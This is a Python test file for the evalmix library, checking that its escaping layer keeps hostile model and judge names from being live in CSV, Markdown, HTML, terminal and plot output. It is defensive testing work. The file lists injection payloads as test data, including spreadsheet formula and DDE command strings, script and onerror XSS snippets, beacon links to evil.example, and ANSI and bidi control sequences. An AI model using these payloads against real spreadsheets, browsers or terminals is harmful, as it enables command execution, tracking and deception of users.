"""One escaping layer per medium (evalmix._escape): hostile names are shown, never obeyed.

Each medium's invariant is checked on the writer's output by an independent reader:
Python's csv module (no live formula cell), markdown-it with HTML enabled (no raw tag, no
link or image, the right number of table cells, the text as given), html.parser (no tag
from the data), the Unicode database (no control byte for the terminal), matplotlib
(``$`` drawn as written), and headless Chromium for report.html when it is installed.
"""

from __future__ import annotations

import csv
import html.parser
import re
import shutil
import subprocess
import unicodedata
import warnings

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

import evalmix
from evalmix._escape import (
    check_names,
    csv_cell,
    csv_frame,
    html_text,
    md_cell,
    md_code,
    md_text,
    name_problems,
    terminal,
    visible,
)
from evalmix.errors import NameWarning

#: the fragments of a hostile name: formulas, HTML, Markdown links and images, table and
#: block syntax, TeX, ANSI escapes, bidi overrides, look-alike letters
HOSTILE = ["=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
           "\tx", "\rx", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
           "![x](http://evil.example/beacon.png?u=1)", "[fix](http://evil.example/fix.exe)",
           "a|b", "line\nbreak", "# head", "> quote", "- item", "1. one", "$\\foo$", "$$",
           "\x1b[2J\x1b]0;title\x07", "gpt-\u202e4", "*em* _u_ ~~s~~", "`code`", "&amp;",
           "www.evil.example", "<http://evil.example>", "\\", "ｇｐｔ", "\u200bzero"]

_TEXT = st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=6)), min_size=1,
                 max_size=4).map("".join)
# markdown-it as most viewers configure it: CommonMark (raw HTML on) with GFM tables and
# strike-through
_MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200c\u200e\u200f"
                      "\u2028\u2029\u202a-\u202e\u2060\u2066-\u2069\ufeff]")


def _tokens(text: str) -> list:
    out = []
    for t in _MD.parse(text):
        out.append(t)
        out += t.children or []
    return out


def _no_live_markup(tokens: list) -> None:
    kinds = {t.type for t in tokens}
    assert not kinds & {"html_inline", "html_block", "link_open", "image", "s_open",
                        "em_open", "strong_open", "code_inline"}, kinds


def _shown(text: str) -> str:
    """What a reader should see: line breaks as spaces, controls as escapes."""
    return visible(re.sub(r"\r\n|[\r\n]", " ", text)).strip()


def _inline_text(tokens: list) -> str:
    return "".join(t.content for t in tokens if t.type in ("text", "softbreak")).strip()


# ---------------------------------------------------------------- CSV
@given(_TEXT)
@settings(max_examples=300, deadline=None)
def test_csv_cell_never_starts_a_formula(s):
    out = csv_cell(s)
    if out != s:
        assert out == "'" + s and s[0] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
    elif s[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(s)  # only a number written as text is left as it is


def test_csv_frame_keeps_numbers_and_can_be_turned_off():
    df = pd.DataFrame({"model": ["=1+1", "-0.5", "+3", "1e-3", "gpt", "@x"],
                       "x": [-0.5, 1.0, -2.0, 3.0, np.nan, 0.0], "=col": [1] * 6})
    out = csv_frame(df)
    assert out["model"].tolist() == ["'=1+1", "-0.5", "+3", "1e-3", "gpt", "'@x"]
    assert out["x"].equals(df["x"]) and list(out.columns) == ["model", "x", "'=col"]
    assert df["model"].iloc[0] == "=1+1"        # a copy: the report's frame is unchanged
    assert csv_frame(df, escape=False) is df
    plain = pd.DataFrame({"a": ["x", "y"], "b": [1, 2]})
    assert csv_frame(plain) is plain
    cat = csv_frame(pd.DataFrame({"m": pd.Categorical(["=a", "b"])}))
    assert cat["m"].tolist() == ["'=a", "b"]


# ---------------------------------------------------------------- Markdown
@given(_TEXT, _TEXT)
@settings(max_examples=300, deadline=None)
def test_markdown_cells_keep_the_table_and_show_the_text(a, b):
    table = f"| x | y |\n| --- | --- |\n| {md_cell(a)} | {md_cell(b)} |"
    tokens = _tokens(table)
    _no_live_markup(tokens)
    cells = [i for i, t in enumerate(tokens) if t.type == "td_open"]
    assert len(cells) == 2
    # the inline token right after each td_open holds the cell's text, as given
    inline = [t for t in _MD.parse(table) if t.type == "inline"][2:]
    assert [_inline_text(t.children) for t in inline] == [_shown(a), _shown(b)]


@given(_TEXT)
@settings(max_examples=300, deadline=None)
def test_markdown_text_is_one_plain_paragraph_or_item(s):
    for line, block in ((md_text(s), "paragraph_open"), ("- " + md_text(s), "bullet_list_open"),
                        ("> " + md_text(s), "blockquote_open")):
        tokens = _MD.parse(line)
        if not _shown(s):
            continue
        _no_live_markup(tokens + [c for t in tokens for c in t.children or []])
        assert tokens[0].type == block
        assert [t.type for t in tokens].count("paragraph_open") == 1
        assert not {t.type for t in tokens} & {"heading_open", "hr", "code_block", "fence",
                                                "bullet_list_open", "ordered_list_open"} \
            - {block}
        assert [t.type for t in tokens].count("list_item_open") == (block == "bullet_list_open")
        inline = next(t for t in tokens if t.type == "inline")
        assert _inline_text(inline.children) == _shown(s)


@given(_TEXT)
@settings(max_examples=200, deadline=None)
def test_markdown_code_span_is_literal(s):
    if not _shown(s):
        return
    children = _MD.parse(f"Command: {md_code(s)}")[1].children
    code = [t for t in children if t.type == "code_inline"]
    assert len(code) == 1 and code[0].content == visible(re.sub(r"\r\n|[\r\n]", " ", s))


# ---------------------------------------------------------------- HTML and terminal
class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


@given(_TEXT)
@settings(max_examples=300, deadline=None)
def test_html_text_and_terminal_carry_no_markup_or_control(s):
    p = _Tags()
    p.feed(f"<p title='{html_text(s)}'>{html_text(s)}</p>")
    p.close()
    assert [t for t, _ in p.tags] == ["p"]
    assert html.unescape(html_text(s)) == visible(s)
    out = terminal(s)
    assert not _CONTROL.search(out.replace("\n", "").replace("\t", ""))
    assert not any(unicodedata.category(c) == "Cc" for c in visible(s))


def test_names_with_bidi_controls_or_look_alikes_warn():
    problems = name_problems(["gpt-4", "gpt-\u202e4", "ｇｐｔ-4", "claude"], "model")
    assert len(problems) == 2
    assert "'gpt-\\u202e4' holds control or invisible" in problems[0]
    assert "'gpt-4', 'gpt-\\u202e4', 'ｇｐｔ-4' look the same" in problems[1]
    assert name_problems(["gpt-4", "GPT-4", "gpt-4o"]) == []
    with pytest.warns(NameWarning, match="look the same"):
        check_names(["ﬁ", "fi"], "judge")


# ---------------------------------------------------------------- every writer at once
def _hostile_table(models, judges):
    rng = np.random.default_rng(0)
    rows = [{"q": f"i{i}", "j": judge, "a": models[0], "b": m, "win": rng.choice(["a", "b"])}
            for i in range(12) for judge in judges for m in models[1:]]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return evalmix.read(pd.DataFrame(rows), outcome="win", model_a="a", model_b="b",
                            clusters={"item": "q", "judge": "j"})


def _check_csv(folder):
    for path in folder.glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        float(cell)  # a number, not a formula


_PIPE = re.compile(r"(?<!\\)(?:\\\\)*\|")


def _check_markdown(text):
    tokens = _tokens(text)
    assert not {t.type for t in tokens} & {"html_inline", "html_block", "link_open"}
    images = [t.attrs.get("src") for t in tokens if t.type == "image"]
    assert all(str(src).startswith("plots/") for src in images), images
    table: int | None = None
    for line in text.splitlines():
        if line.startswith("|"):
            n = len(_PIPE.findall(re.sub(r"\\\\", "", line)))
            table = n if table is None else table
            assert n == table, line
        else:
            table = None


def _check_html(text):
    p = _Tags()
    p.feed(text)
    p.close()
    allowed = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "div",
               "table", "thead", "tbody", "tr", "th", "td", "img", "code", "details",
               "summary", "ul", "li", "span", "br"}
    assert {t for t, _ in p.tags} <= allowed
    for tag, attrs in p.tags:
        assert not [a for a, _ in attrs if a.startswith("on")]
        if tag == "img":
            assert dict(attrs)["src"].startswith("data:image/png;base64,")


_NAME = st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=2).map("".join)


@pytest.mark.filterwarnings("ignore:Glyph")
@given(st.lists(_NAME, min_size=3, max_size=3, unique=True),
       st.lists(_NAME, min_size=2, max_size=2, unique=True))
@settings(max_examples=3, deadline=None, suppress_health_check=list(HealthCheck))
def test_hostile_names_through_every_writer(tmp_path_factory, models, judges):
    """Model and judge names made of formulas, HTML, Markdown links and images, table and
    block syntax, TeX, ANSI escapes and bidi overrides: every file of the report keeps its
    medium's invariant, and ``str(report)`` has no control byte."""
    table = _hostile_table(models, judges)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        rep = evalmix.analyze(table, fast=True, reps=99, seed=1, progress=False)
    out = tmp_path_factory.mktemp("hostile") / "r"
    rep.write(out)
    _check_csv(out)
    for name in ("report.md", "design.md"):
        _check_markdown((out / name).read_text(encoding="utf-8"))
    _check_html((out / "report.html").read_text(encoding="utf-8"))
    assert not _CONTROL.search(str(rep).replace("\n", "").replace("\t", ""))


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    table = _hostile_table(["<script>alert(1)</script>", "=HYPERLINK(\"http://x\")",
                            "![x](http://evil.example/b.png) $\\foo$"],
                           ["$$", "gpt-\u202e4\x1b[2J"])
    with pytest.warns(NameWarning):
        rep = evalmix.analyze(table, fast=True, reps=99, seed=1, progress=False)
    out = tmp_path_factory.mktemp("hostile") / "r"
    rep.write(out)
    return rep, out


def test_hostile_report_files(hostile_report):
    rep, out = hostile_report
    text = (out / "intervals.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and "\n=HYPERLINK" not in text and ",=HYPER" not in text
    md = (out / "report.md").read_text(encoding="utf-8")
    assert "<script>" not in md and "&lt;script&gt;" in md and "![x\\](http\\://" in md
    assert "\\u202e" in md and "\u202e" not in md
    assert any("holds control or invisible characters" in w for w in rep.warnings)
    # "$\foo$" in a model name is drawn literally: every figure is there
    from evalmix.report.figures import figure_list

    assert sorted(p.stem for p in (out / "plots").glob("*.png")) == sorted(
        ["leaderboard"] * (rep.leaderboard is not None) + [n for n, _ in figure_list(rep)])


def test_csv_escaping_can_be_turned_off(hostile_report, tmp_path):
    rep, _ = hostile_report
    rep.write(tmp_path / "raw", escape_csv=False)
    text = (tmp_path / "raw" / "intervals.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" not in text and "=HYPERLINK" in text
    read = pd.read_csv(tmp_path / "raw" / "intervals.csv")
    assert read["estimate"].dtype == float


def test_report_html_renders_in_chromium(hostile_report, tmp_path):
    """Headless Chromium loads report.html offline: the page is there and no tag from the
    names became an element."""
    exe = shutil.which("chromium") or shutil.which("chromium-headless-shell")
    if exe is None:
        pytest.skip("Chromium is not installed (Debian: apt-get install chromium)")
    _, out = hostile_report
    try:
        dom = subprocess.run([exe, "--headless", "--no-sandbox", "--disable-gpu",
                              f"--user-data-dir={tmp_path}", "--dump-dom",
                              (out / "report.html").as_uri()],
                             capture_output=True, text=True, timeout=90).stdout
    except subprocess.TimeoutExpired:
        pytest.skip("Chromium did not answer in 90 s")
    assert "evalmix report" in dom and "<script" not in dom
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in dom


def test_plot_labels_are_literal():
    """A ``$`` in a name is drawn as written (matplotlib would parse ``$\\foo$`` as TeX
    and fail), also when the figure is saved outside evalmix."""
    import io

    from evalmix.report.figures import position_plot

    pos = pd.DataFrame({"judge": ["$\\foo$", "$$"], "first_shown_win_rate": [0.6, 0.5],
                        "first_shown_lo": [0.5, 0.4], "first_shown_hi": [0.7, 0.6],
                        "flip_rate": [0.1, 0.2], "consistency": [0.9, 0.8]})
    fig = position_plot(pos)
    fig.savefig(io.BytesIO(), format="png")
    labels = [t.get_text() for t in fig.axes[0].get_yticklabels()]
    assert labels == ["$\\foo$", "$$"][::-1] or labels == ["$\\foo$", "$$"]


def test_cli_prints_no_control_bytes(tmp_path, capsys):
    from evalmix.cli import main

    path = tmp_path / "t.csv"
    pd.DataFrame({"score": [1, 0], "item": ["a", "b"]}).to_csv(path, index=False)
    code = main(["report", str(path), "--outcome", "\x1b[2Jscore\x1b]0;x\x07",
                 "--out", str(tmp_path / "o")])
    err = capsys.readouterr().err
    assert code == 2 and "\x1b" not in err and "\\x1b[2Jscore" in err


def test_cli_warnings_carry_no_control_bytes(monkeypatch, capsys):
    """The CLI prints each warning as one line with control characters escaped."""
    from evalmix import cli

    def run(args):
        warnings.warn("model '\x1b]0;owned\x07' is odd", UserWarning, stacklevel=1)
        return 0

    monkeypatch.setattr(cli.report, "run_report", run)
    with warnings.catch_warnings():
        warnings.simplefilter("always")
        assert cli.main(["report", "x.csv", "--out", "o"]) == 0
    err = capsys.readouterr().err
    assert "\x1b" not in err and "model '\\x1b]0;owned\\x07' is odd" in err
